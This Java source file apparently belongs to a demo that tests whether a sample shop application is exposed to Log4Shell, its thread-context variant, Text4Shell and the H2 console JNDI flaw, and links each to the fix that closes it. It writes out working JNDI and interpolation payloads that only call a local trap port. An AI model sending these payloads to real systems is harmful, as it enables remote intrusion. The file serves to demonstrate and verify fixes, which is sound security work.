package dev.jlp.demo;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Map;

/** A way to make the shop call a machine of the attacker's. */
enum Attack {
    /** The message of the log event holds a lookup. */
    MESSAGE(Fix.LOG4J, "CVE-2021-44228, Log4Shell", "User-Agent: ${jndi:ldap://…}") {
        @Override
        void strike(Shop shop, int port) throws IOException {
            shop.request("/orders/1", Map.of("User-Agent", "${jndi:" + ldap(port) + "}"));
        }
    },
    /** A value of the thread context holds a lookup; the layout has {@code ${ctx:user}}. */
    CONTEXT(Fix.LOG4J, "CVE-2021-45046, thread context", "X-User: ${jndi:ldap://…}") {
        @Override
        void strike(Shop shop, int port) throws IOException {
            shop.request("/orders/1", Map.of("X-User", "${jndi:" + ldap(port) + "}"));
        }
    },
    /** A customer's words get into a text whose variables are filled in. */
    TEXT(Fix.TEXT, "CVE-2022-42889, Text4Shell", "greeting=${url:UTF-8:http://…}") {
        @Override
        void strike(Shop shop, int port) throws IOException {
            String greeting = "${url:UTF-8:http://127.0.0.1:" + port + "/a}";
            shop.request("/orders/1/confirmation?greeting=" + encoded(greeting), Map.of());
        }
    },
    /** The console's connection test takes a driver class that is a naming context. */
    DATABASE(
            Fix.H2,
            "CVE-2021-42392, H2 console",
            "driver=javax.naming.InitialContext&url=ldap://…") {
        @Override
        void strike(Shop shop, int port) throws IOException {
            shop.request(
                    "/admin/datasource?driver=javax.naming.InitialContext&url="
                            + encoded(ldap(port)),
                    Map.of());
        }
    };

    private final Fix fix;
    private final String title;
    private final String vehicle;

    Attack(Fix fix, String title, String vehicle) {
        this.fix = fix;
        this.title = title;
        this.vehicle = vehicle;
    }

    /** The step between releases that closes the hole. */
    Fix fix() {
        return fix;
    }

    String title() {
        return title;
    }

    /** What the attacker sends. */
    String vehicle() {
        return vehicle;
    }

    /** Whether the shop can be made to call the attacker. */
    boolean works(Shop shop) throws IOException {
        try (Trap trap = new Trap()) {
            strike(shop, trap.port());
            return trap.sprung() > 0;
        }
    }

    /** Makes the shop call the port if the hole is open; it has done so when this returns. */
    abstract void strike(Shop shop, int port) throws IOException;

    private static String ldap(int port) {
        return "ldap://127.0.0.1:" + port + "/a";
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }
}
